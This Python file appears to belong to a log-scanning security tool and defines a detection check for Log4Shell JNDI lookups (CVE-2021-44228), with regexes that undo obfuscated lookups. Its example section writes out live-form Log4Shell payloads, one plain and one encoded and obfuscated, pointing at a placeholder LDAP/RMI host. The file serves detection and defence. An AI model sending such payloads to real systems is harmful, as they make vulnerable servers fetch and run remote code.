"""Look-ups that a vulnerable Java logger carries out, plainly written or hidden."""

import re

from bartizan.detect.logs.payload import Payload
from bartizan.model import Check, Example, Severity

CHECK = Check(
    id="LOG-106",
    slug="jndi-lookup-in-log",
    title="A value in the log asks the logger to load code by JNDI",
    severity=Severity.CRITICAL,
    what="""`${jndi:ldap://…}` and the ways to hide it (`${${lower:j}ndi:…}`, `${${::-j}${::-n}…}`), resolved the way Log4j 2
does.""",
    why="""Log4j 2 before 2.17 fetches and runs code from the address while it writes this very line (CVE-2021-44228).""",
    fix="""1. Look for connections of this machine to the address at that time.
2. Update Log4j to 2.17.1 or later wherever the line was written or passed through.
3. If there was a connection, treat the machine as taken over.""",
    cwe=(917, 502),
    attack=("T1190", "T1059"),
    controls=("soc2:CC6.6", "soc2:CC7.1", "nist-800-53:SI-2"),
    references=("https://logging.apache.org/security.html",),
    bad=(
        Example("app.log", "INFO user agent ${jndi:ldap://203.0.113.9:1389/a}\n"),
        Example(
            "app.log",
            "INFO q=%24%7B%24%7B%3A%3A-j%7Dndi%3A%24%7Blower%3Ar%7Dmi%3A//203.0.113.9/a%7D\n",
        ),
    ),
    good=(
        Example("app.log", "INFO jndi name java:comp/env/jdbc/main is bound\n"),
        Example("app.log", "INFO ${env:HOME:-/root} is the home folder\n"),
    ),
)

_DEFAULT = re.compile(r"\$\{[^${}]{0,80}:-([^${}]{0,200})\}")
_CASE = re.compile(r"\$\{\s{0,4}(?:lower|upper|date):'?([^${}']{0,200})'?\}", re.IGNORECASE)
_JNDI = re.compile(r"\$\{\s{0,4}jndi\s{0,4}:", re.IGNORECASE)
ROUNDS = 12
"""Nested look-ups that are resolved."""


def resolved(text: str) -> str:
    """The text with what Log4j would put in place of harmless look-ups."""
    for _ in range(ROUNDS):
        after = _CASE.sub(r"\1", _DEFAULT.sub(r"\1", text))
        if after == text:
            break
        text = after
    return text


def _becomes_jndi(text: str, start: int, _end: int) -> bool:
    return _JNDI.search(resolved(text[start : start + 2_000])) is not None


PAYLOADS = (
    Payload(r"\$\{\s{0,4}jndi\s{0,4}:"),
    Payload(r"\$\{[^}]{0,80}\$\{[^}]{0,80}(?::-|lower:|upper:|date:)", _becomes_jndi),
)
